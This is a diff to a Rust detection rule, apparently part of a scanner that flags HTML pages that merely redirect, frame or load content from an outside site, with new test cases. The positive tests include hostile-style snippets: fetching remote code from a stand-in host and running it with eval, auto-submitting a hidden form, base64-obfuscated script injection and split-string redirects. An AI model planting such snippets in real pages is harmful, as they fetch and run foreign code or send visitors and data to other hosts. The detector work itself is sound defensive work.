@@ -54,12 +54,34 @@ fn leads_away(page: &Bundle) -> Option<String> {
         return None;
     }
     let is_away = |target: &&str| site(target).is_some() || *target == "(computed)";
-    let mut ways = page.all(Sign::Redirect).chain(page.leads("refresh"));
-    let frame = || page.leads("frame").find(is_away).filter(|_| shown <= NOTHING);
+    let mut ways = page.all(Sign::Redirect).chain(page.leads("refresh")).chain(page.leads("link-to-file"));
+    let frame = || page.leads("frame").chain(page.leads("object")).find(is_away).filter(|_| shown <= NOTHING);
+    let code = page.code();
+    let sent = || page.leads("form").find(is_away).filter(|_| code.contains(".submit()"));
     let is_own_library = |target: &&str| site(target).is_some_and(|site| !LIBRARIES.contains(&site.as_str()));
-    let script =
-        || page.leads("script").find(is_own_library).filter(|_| shown <= NOTHING && page.code().len() < 600);
-    ways.find(is_away).or_else(frame).or_else(script).map(str::to_string)
+    let script = || {
+        page.leads("script")
+            .chain(page.leads("base"))
+            .find(is_own_library)
+            .filter(|_| shown <= NOTHING && code.len() < 600)
+    };
+    let way = ways.find(is_away).or_else(frame).or_else(script).or_else(sent);
+    way.map(str::to_string).or_else(|| loaded(&code).filter(|_| shown <= NOTHING))
+}
+
+/// Program text of a page that is no more than a loader.
+const SHORT: usize = 2000;
+
+/// The address from which a short script loads what the page is to show.
+fn loaded(code: &str) -> Option<String> {
+    let loads = ["fetch(", "import(", "import \"", "import '", "xmlhttprequest"]
+        .iter()
+        .any(|word| code.contains(word));
+    let at =
+        code.find("https://").or_else(|| code.find("http://")).filter(|_| loads && code.len() < SHORT)?;
+    let address = code.get(at..)?.split(['"', '\'', '`', ' ', ')']).next()?;
+    let is_library = site(address).is_none_or(|site| LIBRARIES.contains(&site.as_str()));
+    (!is_library).then(|| address.to_string())
 }
 
 #[cfg(test)]
@@ -76,6 +98,14 @@ mod tests {
             "<html><script>var u = 'aHR0cHM6Ly9hLnRlc3Q='; top.location = atob(u);</script>",
             "<html><iframe src='https://a.test/f' width=100%></iframe>",
             "<html><script src='https://a.test/x.js'></script>",
+            "<html><script>fetch('https://a.test/c').then(r => r.text()).then(t => (0, eval)(t))</script>",
+            "<html><form id=f action='https://a.test/x'><input type=hidden name=e></form><script>f.submit()</script>",
+            "<html><object data='https://a.test/login'></object>",
+            "<html><base href='https://a.test/'><script src=k.js></script>",
+            "<html><script>window['loc' + 'ation']['hr' + 'ef'] = ['https:', '', 'a.test', 'x'].join('/')</script>",
+            "<html><script>var u = 'https://a.test/#'; window.open(u + mail, '_self');</script>",
+            "<html><script>s = document.createElement('script'); s.src = atob('aHR0cHM6Ly9hLnRlc3QvaW4uanM='); h.append(s);</script>",
+            "<html><img src=x.png usemap=#m><map name=m><area href='https://a.test/files/x.iso?1'></map>",
         ] {
             assert_eq!(hits(&RULE, "a.html", page.as_bytes()).len(), 1, "{page}");
         }
@@ -92,6 +122,12 @@ mod tests {
             "<html><meta http-equiv=refresh content='0;url=index_files/start.html'>",
             "<html><script>location.hash = '#a'; location.href = '#top';</script>",
             "<html><script src='https://cdn.plot.ly/plotly.js'></script><div id=x></div>",
+            "<html><script>window.open('https://a.test/help', '_blank'); x.open('GET', 'https://a.test/');</script>",
+            "<html><form action='https://a.test/search'><input name=q></form><script>go()</script>",
+            "<html><script>fetch('data.json').then(r => r.json()).then(show)</script>",
+            "<html><script>import('https://cdn.jsdelivr.net/npm/x')</script>",
+            "<html><a href='https://a.test/x.pdf'>x</a><a href='https://a.test'>y</a>",
+            "<html><script>img.src = decodeURIComponent(name) + '.png';</script>",
         ] {
             assert_eq!(hits(&RULE, "a.html", page.as_bytes()), [""; 0], "{page}");
         }
